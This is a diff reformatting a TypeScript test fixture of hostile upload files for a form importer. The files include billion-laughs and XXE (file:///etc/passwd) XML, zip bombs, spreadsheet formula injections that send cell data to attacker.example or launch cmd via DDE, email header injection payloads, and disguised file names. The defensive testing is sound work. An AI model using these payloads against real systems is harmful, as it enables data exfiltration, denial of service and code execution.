@@ -21,8 +21,10 @@ const SHEET = 'xl/worksheets/sheet3.xml';
 const fixture = (name: string) => readFileSync(join(PROJECT_ROOT, 'test/fixtures/forms', name));
 const zip = (files: Record<string, Uint8Array>, level: 0 | 9 = 9) => Buffer.from(zipSync(files, { level }));
 
-const LAUGHS = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) =>
-  `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('')}]>`;
+const LAUGHS = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from(
+  { length: 9 },
+  (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
+).join('')}]>`;
 const billionLaughs = (root: string) => `${LAUGHS}<${root}><t>&lol9;</t></${root}>`;
 const externalEntity = (root: string) => `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><${root}>&xxe;</${root}>`;
 
@@ -38,7 +40,14 @@ function deepXml(depth: number): string {
 const users = (rows: AnswerValue[][]) => rows;
 // Cells a spreadsheet would run as formulas if a copy were opened (CSV injection, OWASP).
 const FORMULA_USERS = users([
-  ['=HYPERLINK("http://attacker.example/?x="&A1,"Click")', 'Natarajan', 'priya.natarajan@kestrelhart.example.co.uk', '07700 900101', 'Organisation administrator', null],
+  [
+    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
+    'Natarajan',
+    'priya.natarajan@kestrelhart.example.co.uk',
+    '07700 900101',
+    'Organisation administrator',
+    null,
+  ],
   ["+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|" /C calc"!A0', 'tom.okafor@kestrelhart.example.co.uk', '07700 900102', 'Defence lawyer', null],
   ['-2+3+cmd|" /C calc"!A0', '\t=1+1', 'sian.evans@kestrelhart.example.co.uk', '=1+1', '=DDE("cmd";"/C calc";"!A0")', null],
 ]);
@@ -50,7 +59,14 @@ const CONTROL_USERS = users([
 ]);
 // Line breaks and header names where a header could be built from an answer.
 const INJECTION_USERS = users([
-  ['Priya\r\nBcc: victim@attacker.example', 'Natarajan\nX-Injected: yes', 'priya.natarajan@kestrelhart.example.co.uk\r\nBcc: victim@attacker.example', '07700 900101', 'Organisation administrator', null],
+  [
+    'Priya\r\nBcc: victim@attacker.example',
+    'Natarajan\nX-Injected: yes',
+    'priya.natarajan@kestrelhart.example.co.uk\r\nBcc: victim@attacker.example',
+    '07700 900101',
+    'Organisation administrator',
+    null,
+  ],
   ['Tom', 'Okafor', 'tom.okafor@kestrelhart.example.co.uk,victim@attacker.example', '07700 900102', 'Defence lawyer', null],
   ['Siân', 'Evans', '"victim@attacker.example"@kestrelhart.example.co.uk', '07700 900103', 'Support staff', null],
 ]);
@@ -65,7 +81,11 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     { label: 'xlsx zip bomb: 120 MB sheet', filename: 'form.xlsx', content: bomb },
     { label: 'xlsx zip bomb lying about its size', filename: 'form.xlsx', content: understateSize(bomb, SHEET, 1000) },
     { label: 'zip bomb: 120 MB text file', filename: 'forms.zip', content: zip({ 'form.csv': bigZeros }) },
-    { label: 'zip holding 3,000 files', filename: 'forms.zip', content: zip(Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`f${i}.csv`, Buffer.from('x')]))) },
+    {
+      label: 'zip holding 3,000 files',
+      filename: 'forms.zip',
+      content: zip(Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`f${i}.csv`, Buffer.from('x')]))),
+    },
     { label: 'zip in a zip in a zip', filename: 'forms.zip', content: zip({ 'inner.zip': zip({ 'deeper.zip': zip({ 'form.xlsx': good }) }) }) },
     { label: 'zip holding a zip bomb xlsx', filename: 'forms.zip', content: zip({ 'form.xlsx': bomb }, 0) },
     { label: 'billion laughs in shared strings', filename: 'form.xlsx', content: replaceParts(good, { 'xl/sharedStrings.xml': billionLaughs('sst') }) },
@@ -77,7 +97,11 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     { label: 'XML nested 200,000 deep', filename: 'form.xlsx', content: replaceParts(good, { [SHEET]: deepXml(200_000) }) },
     { label: '1,000,000-row sheet', filename: 'form.xlsx', content: replaceParts(good, { [SHEET]: millionRowSheet() }) },
     { label: '1,000,000-row CSV', filename: 'form.csv', content: Buffer.from('x,\r\n'.repeat(1_000_000)) },
-    { label: '1,000,000 users in a CSV', filename: 'form.csv', content: Buffer.concat([csv, Buffer.from('A,B,a@b.example,07700 900101,Defence lawyer,\r\n'.repeat(200_000))]) },
+    {
+      label: '1,000,000 users in a CSV',
+      filename: 'form.csv',
+      content: Buffer.concat([csv, Buffer.from('A,B,a@b.example,07700 900101,Defence lawyer,\r\n'.repeat(200_000))]),
+    },
     { label: 'password-protected workbook', filename: 'form.xlsx', content: fixture('password-protected.xlsx') },
     { label: 'macro-enabled workbook', filename: 'form.xlsm', content: fixture('macro-enabled.xlsm') },
     { label: 'macro-enabled workbook renamed .xlsx', filename: 'form.xlsx', content: fixture('macro-enabled.xlsm'), contentType: XLSX_TYPE },
@@ -88,10 +112,19 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     { label: 'CSV named .xlsx', filename: 'form.xlsx', content: csv, contentType: XLSX_TYPE },
     { label: 'PDF named .xlsx', filename: 'form.xlsx', content: Buffer.from('%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n') },
     { label: 'Windows program named .xlsx', filename: 'form.xlsx', content: Buffer.concat([Buffer.from('MZ'), randomBytes(8192)]) },
-    { label: 'PNG sent as text/csv', filename: 'form.csv', content: Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), randomBytes(2048)]), contentType: 'text/csv' },
+    {
+      label: 'PNG sent as text/csv',
+      filename: 'form.csv',
+      content: Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), randomBytes(2048)]),
+      contentType: 'text/csv',
+    },
     { label: 'random bytes named .xlsx', filename: 'form.xlsx', content: randomBytes(64 * 1024) },
     { label: 'random bytes named .csv', filename: 'form.csv', content: randomBytes(64 * 1024) },
-    { label: 'HTML table named .csv', filename: 'form.csv', content: Buffer.from('<html><body><table><tr><td>=1+1</td></tr></table><script>alert(1)</script></body></html>') },
+    {
+      label: 'HTML table named .csv',
+      filename: 'form.csv',
+      content: Buffer.from('<html><body><table><tr><td>=1+1</td></tr></table><script>alert(1)</script></body></html>'),
+    },
     { label: 'xlsx with no name, as octet-stream', filename: '', content: good, contentType: 'application/octet-stream' },
     { label: 'xlsx with no name, by its type only', filename: '', content: good, contentType: XLSX_TYPE },
     { label: 'double extension .xlsx.exe', filename: 'form.xlsx.exe', content: good, contentType: XLSX_TYPE },
@@ -99,7 +132,11 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     { label: 'truncated xlsx (10%)', filename: 'form.xlsx', content: good.subarray(0, Math.floor(good.length / 10)) },
     { label: 'truncated xlsx (50%)', filename: 'form.xlsx', content: good.subarray(0, Math.floor(good.length / 2)) },
     { label: 'xlsx without its end record', filename: 'form.xlsx', content: good.subarray(0, good.length - 22) },
-    { label: 'xlsx with its central directory zeroed', filename: 'form.xlsx', content: Buffer.concat([good.subarray(0, good.length - 600), Buffer.alloc(600)]) },
+    {
+      label: 'xlsx with its central directory zeroed',
+      filename: 'form.xlsx',
+      content: Buffer.concat([good.subarray(0, good.length - 600), Buffer.alloc(600)]),
+    },
     { label: 'truncated zip', filename: 'forms.zip', content: zip({ 'form.xlsx': good }).subarray(0, 500) },
     { label: 'xlsx missing its workbook part', filename: 'form.xlsx', content: replaceParts(good, { 'xl/workbook.xml': null }) },
     { label: 'xlsx missing its sheet', filename: 'form.xlsx', content: replaceParts(good, { [SHEET]: null }) },
@@ -109,20 +146,61 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     { label: '12 MB xlsx (over the file limit)', filename: 'form.xlsx', content: Buffer.concat([good, randomBytes(12 * 1024 * 1024)]) },
     { label: 'formula injection in a CSV', filename: 'form.csv', content: csvForm({ users: FORMULA_USERS }) },
     { label: 'formula injection in an xlsx', filename: 'form.xlsx', content: await xlsxForm({ users: FORMULA_USERS }) },
-    { label: 'formula injection in organisation answers', filename: 'form.csv', content: csvForm({ organisation: { ...GOOD_ORGANISATION, organisationName: '=cmd|" /C calc"!A0', town: '@SUM(A1:A9)' } }) },
-    { label: 'real formulas in the cells', filename: 'form.xlsx', content: await xlsxForm({}, (book) => { book.worksheets.forEach((sheet) => { sheet.getCell('B12').value = { formula: 'WEBSERVICE("http://attacker.example")', result: 'x' }; }); }) },
+    {
+      label: 'formula injection in organisation answers',
+      filename: 'form.csv',
+      content: csvForm({ organisation: { ...GOOD_ORGANISATION, organisationName: '=cmd|" /C calc"!A0', town: '@SUM(A1:A9)' } }),
+    },
+    {
+      label: 'real formulas in the cells',
+      filename: 'form.xlsx',
+      content: await xlsxForm({}, (book) => {
+        book.worksheets.forEach((sheet) => {
+          sheet.getCell('B12').value = { formula: 'WEBSERVICE("http://attacker.example")', result: 'x' };
+        });
+      }),
+    },
     { label: 'control characters and RTL in a CSV', filename: 'form.csv', content: csvForm({ users: CONTROL_USERS }) },
-    { label: 'control characters and RTL in an xlsx', filename: 'form.xlsx', content: await xlsxForm({ users: CONTROL_USERS.map((row) => row.map((v) => (typeof v === 'string' ? v.replace(/\u0000/g, '') : v))) }) },
-    { label: 'RTL organisation name', filename: 'form.csv', content: csvForm({ organisation: { ...GOOD_ORGANISATION, organisationName: '\u202Eyrotcaf\u202C محاماة', adminName: 'אבי\u0008 כהן' } }) },
+    {
+      label: 'control characters and RTL in an xlsx',
+      filename: 'form.xlsx',
+      content: await xlsxForm({ users: CONTROL_USERS.map((row) => row.map((v) => (typeof v === 'string' ? v.replace(/\u0000/g, '') : v))) }),
+    },
+    {
+      label: 'RTL organisation name',
+      filename: 'form.csv',
+      content: csvForm({ organisation: { ...GOOD_ORGANISATION, organisationName: '\u202Eyrotcaf\u202C محاماة', adminName: 'אבי\u0008 כהן' } }),
+    },
     { label: 'header injection in user answers (CSV)', filename: 'form.csv', content: csvForm({ users: INJECTION_USERS }) },
     { label: 'header injection in user answers (xlsx)', filename: 'form.xlsx', content: await xlsxForm({ users: INJECTION_USERS }) },
-    { label: 'header injection in organisation answers', filename: 'form.csv', content: csvForm({ organisation: { ...GOOD_ORGANISATION, organisationName: 'Firm\r\nBcc: victim@attacker.example', email: 'office@firm.example\r\nBcc: victim@attacker.example', adminEmail: 'a@b.example\nTo: victim@attacker.example' } }) },
+    {
+      label: 'header injection in organisation answers',
+      filename: 'form.csv',
+      content: csvForm({
+        organisation: {
+          ...GOOD_ORGANISATION,
+          organisationName: 'Firm\r\nBcc: victim@attacker.example',
+          email: 'office@firm.example\r\nBcc: victim@attacker.example',
+          adminEmail: 'a@b.example\nTo: victim@attacker.example',
+        },
+      }),
+    },
     { label: 'RTL override in the file name', filename: 'form\u202Exslx.exe', content: good, contentType: XLSX_TYPE },
     { label: 'line break in the file name', filename: 'form\r\nBcc: victim@attacker.example.xlsx', content: good },
-    { label: '3,000 users in a valid-looking workbook', filename: 'form.csv', content: csvForm({ users: Array.from({ length: 3000 }, (_, i) => [`F${i}`, `L${i}`, `u${i}@firm.example.co.uk`, '07700 900101', 'Defence lawyer', null]) }) },
+    {
+      label: '3,000 users in a valid-looking workbook',
+      filename: 'form.csv',
+      content: csvForm({
+        users: Array.from({ length: 3000 }, (_, i) => [`F${i}`, `L${i}`, `u${i}@firm.example.co.uk`, '07700 900101', 'Defence lawyer', null]),
+      }),
+    },
     { label: 'users tab only header', filename: 'form.csv', content: csvForm({ users: [] }) },
     { label: 'a good form beside the hostile ones', filename: 'form.xlsx', content: good },
-    { label: 'good users, 2,000-character cells', filename: 'form.csv', content: csvForm({ users: GOOD_USERS.map((row) => row.map((v, i) => (i === 5 ? 'x'.repeat(5000) : v))) }) },
+    {
+      label: 'good users, 2,000-character cells',
+      filename: 'form.csv',
+      content: csvForm({ users: GOOD_USERS.map((row) => row.map((v, i) => (i === 5 ? 'x'.repeat(5000) : v))) }),
+    },
   ];
   return files;
 }
